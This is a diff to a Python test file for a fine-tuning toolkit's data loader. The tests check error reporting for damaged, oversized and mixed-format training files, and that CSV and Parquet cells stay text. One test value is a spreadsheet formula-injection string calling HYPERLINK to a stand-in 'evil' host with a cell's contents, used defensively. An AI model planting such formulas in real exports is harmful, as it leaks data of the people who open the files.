@@ -1,24 +1,28 @@
-"""Faults of data files, B1-B25: each ends in one error that names file, row and field, or in a counted, listed skip.
+"""Faults of data files: each ends in an error that names file, row and field, or in a counted, listed skip.
 
 Encoding (B11, B12, B15-B19) is in test_b_encoding.py, a changed file on resume (B23) with training.
 """
 
+import csv
+import gzip
+import io
 import json
 import os
 import random
-import resource
+import subprocess
 import sys
 from collections.abc import Callable
-from multiprocessing import get_context
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from lora_kit.data.prepare import PreparedData, prepare_data
-from lora_kit.data.sources import read_rows
 from lora_kit.data.types import Conversation, Example
 from lora_kit.errors import DataError, Problem
 from lora_kit.recipe.schema import DataSpec
@@ -123,7 +127,7 @@ def test_b4_empty_answer(answer: str, name: str, prepare: Prepare) -> None:
     content = lines(rows) if name == "rows.jsonl" else json.dumps(rows).encode()
     with pytest.raises(DataError) as caught:
         prepare(content, name=name)
-    assert problems(caught) == [f"{name}:2: output: empty answer; write an answer, or set data.on_empty=drop"]
+    assert problems(caught) == [f"{name}:2: output: empty answer; write one, or set data.on_empty=drop"]
     report = prepare(content, name=name, on_empty="drop").report.to_json()
     assert report["dropped"] == {"empty_answer": {"count": 1, "rows": [f"{name}:2"]}}
 
@@ -200,23 +204,24 @@ def test_b8_whole_surrogate_pairs_and_nul_are_text(prepare: Prepare) -> None:
     assert data.report.to_json()["nul_characters"] == {"count": 1, "rows": ["rows.jsonl:1"]}
 
 
-def _read_with_little_memory(path: str) -> None:
-    with open("/proc/self/statm") as statm:  # noqa: PTH123
-        in_use = int(statm.read().split()[0]) * resource.getpagesize()
-    resource.setrlimit(resource.RLIMIT_AS, (in_use + 64 * 2**20, in_use + 64 * 2**20))
-    found: list[str] = []
-    try:
-        for row in read_rows(Path(path), on_problem=lambda problem: found.append(str(problem))):
-            found.append(row.origin)
-    except DataError as error:
-        found.append(str(error))
-    sys.exit(0 if found and "MemoryError" not in found else 1)
+READ_WITH_LITTLE_MEMORY = """
+import resource, sys
+from pathlib import Path
+from lora_kit.data.sources import read_rows
+from lora_kit.errors import DataError
+in_use = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
+resource.setrlimit(resource.RLIMIT_AS, (in_use + 2**25, in_use + 2**25))
+try:
+    list(read_rows(Path(sys.argv[1]), on_problem=print))
+except DataError as error:
+    print(error)
+"""
 
 
 @pytest.mark.parametrize(
     ("make", "found"),
     [
-        (lambda: b'{"instruction": "' + b"x" * 200_000_000 + b'"}', "a row of more than 1,048,576 bytes"),
+        (lambda: b'{"instruction": "' + b"x" * 60_000_000 + b'"}', "a row of more than 1,048,576 bytes"),
         (
             lambda: b'{"messages": [' + b",".join([b'{"role":"user","content":"a"}'] * 1_000_000) + b"]}",
             "a row of more than",
@@ -225,20 +230,19 @@ def _read_with_little_memory(path: str) -> None:
             lambda: b'{"instruction": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
             "nested more than 64 levels deep",
         ),
-        (lambda: b"[" + b'{"instruction": "' + b"x" * 200_000_000, "a row of more than"),
-        (lambda: b"[" * 100_000_000, "an element must be an object"),
+        (lambda: b"[" + b'{"instruction": "' + b"x" * 60_000_000, "a row of more than"),
+        (lambda: b"[" * 60_000_000, "an element must be an object"),
     ],
-    ids=["200 MB row", "a million turns", "deep row", "200 MB element", "deep list"],
+    ids=["60 MB row", "a million turns", "deep row", "60 MB element", "deep list"],
 )
 def test_b9_giants_are_refused_in_flat_memory(make: Callable[[], bytes], found: str, tmp_path: Path) -> None:
     path = tmp_path / "rows.jsonl"
     path.write_bytes(make())
-    child = get_context("fork").Process(target=_read_with_little_memory, args=(str(path),))
-    child.start()
-    child.join()
-    assert child.exitcode == 0
-    with pytest.raises(DataError, match=found):
-        list(read_rows(path))
+    command = [sys.executable, "-c", READ_WITH_LITTLE_MEMORY, str(path)]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    assert (done.returncode, done.stderr) == (0, "")
+    assert done.stdout.startswith("rows.jsonl:1: ")
+    assert found in done.stdout
 
 
 def test_b10_duplicates_are_counted_and_kept(prepare: Prepare) -> None:
@@ -342,6 +346,62 @@ def test_b20_turns_out_of_order(row: dict, where: str, prepare: Prepare) -> None
     assert problems(caught)[0].startswith(f"rows.jsonl:2: {where}")
 
 
+@pytest.mark.parametrize(
+    ("format_name", "row", "where"),
+    [
+        (
+            "sharegpt",
+            {"conversations": [{"from": "human", "value": "q"}, {"role": "assistant", "content": "a"}]},
+            "conversations[1].from: missing field 'from'; this looks like OpenAI's messages",
+        ),
+        (
+            "messages",
+            {"messages": [{"role": "user", "content": "q"}, {"from": "gpt", "value": "a"}]},
+            "messages[1].role: missing field 'role'; this looks like ShareGPT",
+        ),
+        (
+            "openassistant",
+            {
+                "message_tree_id": "t",
+                "prompt": {
+                    "role": "prompter",
+                    "text": "q",
+                    "message_id": "1",
+                    "replies": [{"role": "assistant", "text": "a", "parent_id": "2"}],
+                },
+            },
+            "prompt.replies[0]: parent_id is '2', but it stands below '1'",
+        ),
+    ],
+)
+def test_b21_mixed_formats_and_misplaced_messages(
+    format_name: str, row: dict, where: str, prepare: Prepare
+) -> None:
+    with pytest.raises(DataError) as caught:
+        prepare([row], format=format_name)
+    assert problems(caught)[0].startswith(f"rows.jsonl:1: {where}")
+
+
+def test_b21_deleted_orphaned_and_circular_messages(prepare: Prepare) -> None:
+    def said(name: str, parent: str | None, **more: Any) -> dict[str, Any]:
+        role = "prompter" if name[0] == "q" else "assistant"
+        return {
+            "message_tree_id": "t",
+            "message_id": name,
+            "parent_id": parent,
+            "role": role,
+            "text": name,
+        } | more
+
+    tree = [said("q", None), said("a", "q"), said("a2", "q", deleted=True), said("a3", "gone")]
+    report = prepare(tree, format="openassistant").report.to_json()
+    assert (report["rows_read"], report["conversations"]) == (1, 1)
+    assert (report["counts"]["deleted"], report["counts"]["orphans"]) == (1, 1)
+    with pytest.raises(DataError) as caught:
+        prepare([*tree, said("q4", "a4"), said("a4", "q4")], format="openassistant")
+    assert problems(caught) == ["rows.jsonl:5: parent_id: its parents lead back to itself"]
+
+
 def test_b22_nothing_left_tells_why(prepare: Prepare) -> None:
     rows = [GOOD | {"output": ""}] * 3 + [GOOD | {"output": "a" * 99}]
     with pytest.raises(DataError) as caught:
@@ -357,7 +417,7 @@ def test_b22_all_rows_held_out_or_no_validation_row_left(prepare: Prepare, tmp_p
         prepare([GOOD], validation=str(held), on_empty="drop")
     held.write_bytes(lines([GOOD]))
     with pytest.raises(
-        DataError, match="no rows are left for train: 2 read, 1 dropped .*, 1 held out for validation"
+        DataError, match=r"no rows are left for train: 2 read, 1 dropped .*, 1 held out for validation"
     ):
         prepare([GOOD], validation=str(held))
 
@@ -380,6 +440,38 @@ def test_b24_text_comes_through_to_the_character(
     content = json.dumps([row] if name == "a.json" else row, ensure_ascii=ascii_only).encode()
     (example,) = prepare(content, name=name).train
     assert "".join(map(chr, example.input_ids)) == f"{question}!{answer}{extra}"
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def test_b25_cells_are_text_in_csv_and_parquet(prepare: Prepare, tmp_path: Path) -> None:
+    rows = [
+        {"instruction": FORMULA, "output": 'two\r\nlines, "quoted"'},
+        {"instruction": "@SUM(1)", "output": "1e5"},
+    ]
+    text = io.StringIO(newline="")
+    writer = csv.DictWriter(text, ["instruction", "output"])
+    writer.writeheader()
+    writer.writerows(rows)
+    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "written.parquet")
+    contents = {
+        "rows.csv": text.getvalue().encode(),
+        "rows.csv.gz": gzip.compress(text.getvalue().encode()),
+        "rows.parquet": (tmp_path / "written.parquet").read_bytes(),
+    }
+    expected = prepare(rows).fingerprint
+    assert {
+        name: prepare(content, name=name).fingerprint for name, content in contents.items()
+    } == dict.fromkeys(contents, expected)
+
+
+def test_b25_types_of_parquet_are_never_turned_into_text(prepare: Prepare, tmp_path: Path) -> None:
+    table = pa.table({"instruction": ["q", "q"], "output": [datetime(2024, 1, 1, tzinfo=UTC)] * 2})
+    pq.write_table(table, tmp_path / "written.parquet")
+    with pytest.raises(DataError) as caught:
+        prepare((tmp_path / "written.parquet").read_bytes(), name="rows.parquet")
+    assert problems(caught)[0] == "rows.parquet:1: output: must be text, found datetime"
 
 
 def mutated(data: bytes, chance: random.Random) -> bytes:
@@ -409,28 +501,59 @@ def mutated(data: bytes, chance: random.Random) -> bytes:
     return bytes(raw[: chance.randrange(len(raw) + 1)]) if chance.random() < 0.2 else bytes(raw)
 
 
+def seeds() -> list[tuple[str, str, bytes]]:
+    """Small good files: format, name, content."""
+    rows: dict[str, list[dict[str, Any]]] = {
+        "alpaca": [GOOD] * 4,
+        "dolly": [{"instruction": "é\n", "context": "c", "response": "r", "category": "qa"}] * 4,
+        "messages": [turns("user", "assistant"), turns("system", "user", "assistant", "user", "assistant")]
+        * 2,
+        "sharegpt": [{"conversations": [{"from": "human", "value": "q"}, {"from": "gpt", "value": "a"}]}] * 3,
+        "openassistant": [
+            {"message_tree_id": "t", "message_id": "1", "parent_id": None, "role": "prompter", "text": "q"},
+            {
+                "message_tree_id": "t",
+                "message_id": "2",
+                "parent_id": "1",
+                "role": "assistant",
+                "text": "a",
+                "rank": 0,
+            },
+            {"message_tree_id": "u", "prompt": {"role": "prompter", "text": "q", "replies": []}},
+        ],
+        "code": [{"instruction": "q", "code": "x = 1", "language": "python"}] * 3,
+        "auto": [{"prompt": "q", "completion": "a"}] * 3,
+    }
+    table = io.BytesIO()
+    pq.write_table(pa.Table.from_pylist(rows["alpaca"]), table, compression="none")
+    files = [(name, "rows.jsonl", lines(some)) for name, some in rows.items()]
+    files += [
+        (name, "rows.json", json.dumps(some, ensure_ascii=False).encode()) for name, some in rows.items()
+    ]
+    files.append(("alpaca", "rows.csv", b'instruction,input,output\nq,,"a, b"\nq,"c\nd",e\n'))
+    files += [
+        ("alpaca", "rows.parquet", table.getvalue()),
+        ("alpaca", "rows.jsonl.gz", gzip.compress(lines([GOOD] * 4))),
+    ]
+    return files
+
+
 @pytest.mark.parametrize("batch", range(10))
 def test_damaged_files_give_data_errors_and_nothing_else(batch: int, prepare: Prepare) -> None:
     chance = random.Random(batch)
-    chat = [turns("user", "assistant"), turns("system", "user", "assistant", "user", "assistant")] * 2
-    dolly = [{"instruction": "é\n", "context": "c", "response": "r", "category": "qa"}] * 4
-    seeds = {"alpaca": [GOOD] * 4, "dolly": dolly, "messages": chat}
-    for _ in range(30):
-        format_name = chance.choice(list(seeds))
-        as_list = chance.random() < 0.5
-        rows = seeds[format_name]
-        clean = json.dumps(rows, ensure_ascii=chance.random() < 0.5).encode() if as_list else lines(rows)
+    files = seeds()
+    for number in range(40):
+        format_name, name, clean = files[number % len(files)]
+        policy = chance.choice(["error", "drop"])
         try:
-            report = prepare(
-                mutated(clean, chance),
-                name="rows.json" if as_list else "rows.jsonl",
-                format=format_name,
-                on_empty="drop",
-            ).report.to_json()
+            data = prepare(
+                mutated(clean, chance), name=name, format=format_name, on_empty="drop", on_bad_row=policy
+            )
         except DataError as error:
             text = str(error).splitlines()
             assert text
-            assert all("rows.json" in line or line.startswith("... and") for line in text)
+            assert all(name in line or line.startswith("... and") for line in text)
         else:
+            report = data.report.to_json()
             dropped = sum(entry["count"] for entry in report["dropped"].values())
             assert report["rows_read"] == report["rows_used"] + dropped
